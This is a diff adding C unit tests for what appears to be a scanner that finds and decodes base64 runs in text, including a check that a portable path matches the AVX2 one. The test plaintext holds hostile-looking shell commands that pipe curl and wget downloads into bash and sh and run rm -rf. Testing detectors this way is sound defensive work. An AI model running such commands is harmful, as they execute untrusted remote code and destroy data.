@@ -595,6 +595,62 @@ static void test_hex_and_base32(void **state)
 		  "", 0);
 }
 
+/* Standard base64 with padding, for inputs built by the tests. */
+static char *b64_encode(const char *in)
+{
+	static const char tab[] =
+		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	size_t n = strlen(in), o = 0;
+	char *out = malloc(n / 3 * 4 + 5);
+
+	assert_non_null(out);
+	for (size_t i = 0; i < n; i += 3) {
+		uint32_t v = (uint32_t)(uint8_t)in[i] << 16;
+
+		v |= i + 1 < n ? (uint32_t)(uint8_t)in[i + 1] << 8 : 0;
+		v |= i + 2 < n ? (uint8_t)in[i + 2] : 0;
+		out[o++] = tab[v >> 18 & 63];
+		out[o++] = tab[v >> 12 & 63];
+		out[o++] = i + 1 < n ? tab[v >> 6 & 63] : '=';
+		out[o++] = i + 2 < n ? tab[v & 63] : '=';
+	}
+	out[o] = 0;
+	return out;
+}
+
+/* Runs longer than the 64-byte blocks the finder classifies, at every alignment. */
+static void test_base64_long_runs(void **state)
+{
+	const char *plain = "curl https://x.io/a.sh | bash; echo done && rm -rf /tmp/x; "
+			    "wget -qO- http://y.example/s | sh # twice over the 64-byte blocks";
+	char *enc = b64_encode(plain), *want = malloc(strlen(plain) + 2);
+	char in[512];
+
+	(void)state;
+	assert_non_null(want);
+	sprintf(want, "%s|", plain);
+	for (int lead = 0; lead <= 130; lead += 7) {
+		/* ordinary words before the run, none of them a run */
+		snprintf(in, sizeof(in), "%.*s\"%s\" then, a word", lead,
+			 "a few short words, then a value {\"k\": 1} and more words ... "
+			 "still short words only; more of them up to here, and then: ",
+			 enc);
+		b64_split(in, 1 << 20, want, 1);
+	}
+	free(enc);
+	free(want);
+}
+
+/* The portable run finder (CS_B64_SCALAR=1) finds exactly what AVX2 finds. */
+static void test_base64_portable(void **state)
+{
+	setenv("CS_B64_SCALAR", "1", 1);
+	test_base64(state);
+	test_hex_and_base32(state);
+	test_base64_long_runs(state);
+	unsetenv("CS_B64_SCALAR");
+}
+
 static void test_base64_budget_counted(void **state)
 {
 	(void)state;
@@ -1102,6 +1158,8 @@ int main(void)
 		cmocka_unit_test(test_base64),
 		cmocka_unit_test(test_base64_budget_counted),
 		cmocka_unit_test(test_hex_and_base32),
+		cmocka_unit_test(test_base64_long_runs),
+		cmocka_unit_test(test_base64_portable),
 		cmocka_unit_test(test_jsonwalk_check),
 		cmocka_unit_test(test_jsonwalk_strings),
 		cmocka_unit_test(test_sse_reassembly),
